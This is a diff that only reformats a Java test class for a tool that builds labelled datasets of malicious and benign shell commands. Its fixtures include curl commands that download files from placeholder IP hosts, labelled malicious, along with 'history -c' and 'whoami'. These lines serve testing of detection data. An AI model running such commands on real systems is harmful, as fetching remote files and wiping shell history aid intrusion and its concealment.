@@ -145,8 +145,7 @@ class DataSetBuildTest {
     assertThat(row.sources()).containsExactly(more);
     assertThat(row.overruled()).contains(less, "rules");
     assertThat(row.rules()).isEmpty();
-    assertThat(made.card().sets().get("ab").overruled())
-        .containsEntry(more + " over " + less, 1L);
+    assertThat(made.card().sets().get("ab").overruled()).containsEntry(more + " over " + less, 1L);
     assertThat(row(made, "rb", ATTACK).label()).isEqualTo("malicious");
     assertThat(made.card().rules())
         .filteredOn(rule -> rule.id().equals("recovery-off"))
@@ -193,14 +192,14 @@ class DataSetBuildTest {
     DataSetBuild build = build(SETTINGS);
     build.source(
         SourceKind.TELEMETRY,
-        source("truth.jsonl", line("curl http://10.1.2.3/a -o 1", "malicious"), line("z", "benign")));
+        source(
+            "truth.jsonl", line("curl http://10.1.2.3/a -o 1", "malicious"), line("z", "benign")));
     build.test(source("incident.jsonl", line("curl http://10.9.9.9/a -o 77", "malicious")));
     feed(build, event("curl http://10.1.2.3/a -o 1", 1, "a"), event(ATTACK, 1, "a"));
     String summary = build.write(folder.resolve("out"));
     assertThat(summary).contains("ab ");
     assertThat(progress)
-        .contains(
-            "warning: 1 line is left out of ab: of the template of a line of incident.jsonl");
+        .contains("warning: 1 line is left out of ab: of the template of a line of incident.jsonl");
     assertThat(LabelledSet.read("ab", folder.resolve("out/ab.jsonl.gz")).commands())
         .containsExactly(ATTACK, "z");
     assertThat(Files.readString(folder.resolve("out/card.md")))
@@ -249,7 +248,8 @@ class DataSetBuildTest {
     List<String> labelled = new ArrayList<>();
     List<String> lines = List.of(ATTACK, HARMLESS, NOBODYS, "ls", "whoami", "history -c", "x 1");
     for (int i = 0; i < 80; i++) {
-      String cmd = lines.get(random.nextInt(lines.size())) + (random.nextBoolean() ? "" : " " + i % 9);
+      String cmd =
+          lines.get(random.nextInt(lines.size())) + (random.nextBoolean() ? "" : " " + i % 9);
       events.add(event(cmd, 1 + random.nextInt(20), "host-" + random.nextInt(6)));
       if (random.nextInt(4) == 0) {
         labelled.add(line(cmd, random.nextInt(5) == 0 ? "malicious" : "benign"));
@@ -261,7 +261,8 @@ class DataSetBuildTest {
     Collections.shuffle(events, random);
     Collections.shuffle(labelled, random);
     Path two = written(any, events, labelled, most, "two");
-    for (String name : List.of("rb.jsonl.gz", "rb.parquet", "ab.jsonl.gz", "ab.parquet", "card.json", "card.md")) {
+    for (String name :
+        List.of("rb.jsonl.gz", "rb.parquet", "ab.jsonl.gz", "ab.parquet", "card.json", "card.md")) {
       if (Files.exists(one.resolve(name)) || Files.exists(two.resolve(name))) {
         assertThat(two.resolve(name)).as(name).hasSameBinaryContentAs(one.resolve(name));
       }
@@ -272,8 +273,7 @@ class DataSetBuildTest {
       Any any, List<CommandEvent> events, List<String> labelled, int most, String name)
       throws IOException {
     Path place = Files.createTempDirectory(folder, name);
-    DataSetBuild build =
-        build(settings(Optional.of(LocalDate.of(2025, 1, 15)), 3, most));
+    DataSetBuild build = build(settings(Optional.of(LocalDate.of(2025, 1, 15)), 3, most));
     build.source(
         SourceKind.CASES,
         Records.write(place.resolve("in/cases.jsonl"), labelled.toArray(String[]::new)));
@@ -304,7 +304,8 @@ class DataSetBuildTest {
         "{\"cmd\":\"x\",\"label\":\"evil\"} | cases.jsonl:1: field \"label\" is \"evil\"",
         "{\"label\":\"benign\"} | cases.jsonl:1: field \"cmd\" (or \"command_line\") is missing",
         "{\"cmd\":\" \",\"label\":\"benign\"} | is blank",
-        "{\"cmd\":\"x\",\"label\":\"benign\",\"first_seen\":\"yesterday\"} | cases.jsonl:1: field \"first_seen\" is \"yesterday\"",
+        "{\"cmd\":\"x\",\"label\":\"benign\",\"first_seen\":\"yesterday\"} | cases.jsonl:1: field"
+            + " \"first_seen\" is \"yesterday\"",
         "no json | cases.jsonl:1: not valid JSON",
         "'' | no labelled line is in it"
       })
